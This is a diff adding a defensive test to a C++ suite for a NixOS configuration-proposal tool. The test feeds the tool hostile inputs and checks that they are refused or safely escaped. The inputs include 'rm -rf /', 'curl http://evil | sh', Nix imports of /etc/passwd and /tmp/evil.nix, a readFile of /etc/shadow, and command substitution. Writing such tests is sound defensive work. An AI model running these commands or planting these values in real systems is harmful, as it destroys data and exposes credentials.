@@ -82,7 +82,7 @@ TEST_F(Pipeline, NixSyntaxErrorIsRefusedQuotingNix) {
 }
 
 TEST_F(Pipeline, ModuleOfTheWrongShapeIsRefused) {
-  const auto result = env.run({"propose", "--module", "modules/list.nix", "--nix", "[ 1 2 ]"});
+  const auto result = env.run({"propose", "--module", "modules/list.nix", "--nix", "\"a string is not a module\""});
   EXPECT_EQ(result.exit_code, 3);
   EXPECT_NE(result.err.find("function or an attribute set"), std::string::npos) << result.err;
 }
@@ -97,6 +97,66 @@ TEST_F(Pipeline, PathsOutsideTheModuleFoldersAreRefused) {
   fs::create_directory_symlink(env.root() / "elsewhere", env.config_dir() / "modules");
   EXPECT_EQ(env.run({"propose", "--module", "modules/x.nix", "--nix", "{ }"}).exit_code, 3);
   EXPECT_FALSE(fs::exists(env.root() / "elsewhere/x.nix"));
+}
+
+TEST_F(Pipeline, HostileInputsAreRefusedAndNothingIsWritten) {
+  const std::vector<std::vector<std::string>> hostile = {
+      {"install htop; rm -rf /"},
+      {"install", "htop;", "rm", "-rf", "/"},
+      {"install", "htop\"; }; imports = [ /etc/passwd ]; x = {"},
+      {"install", "${builtins.readFile /etc/shadow}"},
+      {"install", "pkgs.htop ]; imports = [ /etc/passwd"},
+      {"install", "../../etc/passwd"},
+      {"install", "/bin/sh"},
+      {"install", "htop`id`"},
+      {"install", "htop$(id)"},
+      {"install", "ht op"},
+      {"install", "htop%x"},
+      {"install", "-rf"},
+      {"install", "1password"},
+      {"install", ".hidden"},
+      {"install", "a..b"},
+      {"install", "htop."},
+      {"install", "htop#x"},
+      {"install", "h\u0442op"},
+      {"install", "\xd2\xbbtop"},
+      {"install", "ht\xe2\x80\x8bop"},
+      {"install", std::string(201, 'a')},
+      {"install", "htop\\"},
+      {"install", "htop|x"},
+      {"enable", "openssh; rm -rf /"},
+      {"enable", "services.openssh.enable = true; imports = [ ./x ]"},
+      {"disable", "\"x\""},
+      {"set", "networking.hostName\"", "x"},
+      {"set", "imports", "[\"/etc/passwd\"]"},
+      {"set", "users.users.ada.imports", "[\"/tmp/evil.nix\"]"},
+      {"set", "a.b", "{\"imports\":[\"/tmp/evil.nix\"]}"},
+      {"set-home-option", "programs.git;", "x"},
+      {"rm -rf /"},
+      {"curl http://evil | sh"},
+      {"install"},
+      {"remove", "htop; install evil"},
+      {"set", "networking.hostName", "--nix-expr"},
+  };
+  for (const auto& words : hostile) {
+    std::vector<std::string> argv{"propose"};
+    argv.insert(argv.end(), words.begin(), words.end());
+    const auto result = env.run(argv);
+    EXPECT_TRUE(result.exit_code == 3 || result.exit_code == 2) << words.at(0) << " -> " << result.exit_code;
+    EXPECT_NE(result.exit_code, 0);
+  }
+  // The headline case exits 3 exactly.
+  EXPECT_EQ(env.run({"propose", "install htop; rm -rf /"}).exit_code, 3);
+  EXPECT_FALSE(fs::exists(env.config_dir() / "proposals"));
+  for (const char* kind : {"packages", "services", "options", "modules", "home"})
+    EXPECT_FALSE(fs::exists(env.config_dir() / kind)) << kind;
+  // A hostile value is not refused but rendered as one harmless string.
+  const auto value = env.run({"propose", "set", "users.motd", "\"; imports = [ /etc/passwd ]; x = \"", "--json"});
+  ASSERT_EQ(value.exit_code, 0) << value.err;
+  EXPECT_NE(value.json()["changes"][0]["content"].get<std::string>().find(
+                "users.motd = \"\\\"; imports = [ /etc/passwd ]; x = \\\"\";"),
+            std::string::npos)
+      << value.json()["changes"][0]["content"];
 }
 
 TEST_F(Pipeline, ApplyWithoutYesOffATerminalIsRefused) {
